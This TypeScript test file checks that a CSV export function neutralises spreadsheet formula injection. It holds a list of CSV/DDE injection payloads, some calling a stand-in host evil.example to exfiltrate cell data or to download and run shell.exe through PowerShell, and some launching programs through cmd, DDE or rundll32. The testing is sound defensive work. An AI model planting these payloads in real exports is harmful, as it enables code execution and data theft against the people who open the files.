import * as fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine } from "#commands/csv.ts";

/** Reads one line of CSV as a spreadsheet does; written apart from what makes it. */
function cellsIn(line: string): string[] {
  const cells: string[] = [];
  let rest = line;
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"(;|$)/.exec(rest);
    const found = quoted ?? /^([^";\r\n]*)(;|$)/.exec(rest);
    if (found === null) throw new Error(`Not CSV: ${JSON.stringify(rest.slice(0, 40))}`);
    cells.push(quoted === null ? (found[1] ?? "") : (found[1] ?? "").replaceAll('""', '"'));
    if (found[2] === "") return cells;
    rest = rest.slice(found[0].length);
  }
}

/** Ways in which spreadsheets were made to calculate, call a program or fetch a page. */
const formulas = [
  "=1+1",
  "+1",
  "-1+2",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example";"klik")',
  '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '-"x"',
  "=1\n=2",
  '=1;"=2',
  '=A1&"";"',
];
/** What a spreadsheet does not show, or takes away, before it looks. */
const before = [
  "",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\0",
  " ",
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\t ",
  "\0\0",
  "\u202e",
];
const wide: Readonly<Record<string, string>> = { "=": "＝", "+": "＋", "-": "－", "@": "＠" };
/** Would a spreadsheet calculate this? Written apart from what prevents it. */
const isRun = (cell: string) => {
  const seen = cell.replace(/[\p{Cc}\p{Cf}\p{Z}]/gu, "");
  return "=+-@＝＋－＠".includes(seen.charAt(0) || "x") || /^\p{Cc}/u.test(cell);
};
const bare = (cell: string) => (cell.startsWith("'") && isRun(cell.slice(1)) ? cell.slice(1) : cell);

test("no known formula is run, whatever stands before it, and the words stay as they were", () => {
  const cells = before.flatMap((first) =>
    formulas.flatMap((formula) => [
      `${first}${formula}`,
      `${first}${wide[formula[0] ?? ""] ?? ""}${formula.slice(1)}`,
    ]),
  );
  expect(cells.length).toBeGreaterThan(400);
  const read = cellsIn(csvLine(cells));
  expect(read.filter(isRun)).toEqual([]);
  expect(read.map(bare)).toEqual(cells);
});

test("no cell of an export is run as a formula by a spreadsheet, whatever it says", () => {
  const anything = fc.oneof(
    fc.constantFrom(...formulas),
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.stringMatching(/^[=+\-@";\r\n\t a]{0,12}$/),
  );
  fc.assert(
    fc.property(fc.array(anything, { minLength: 1, maxLength: 6 }), (texts) => {
      const cells = cellsIn(csvLine(texts));
      expect(cells.map(bare)).toEqual(texts.map(bare));
      expect(cells.filter(isRun)).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});
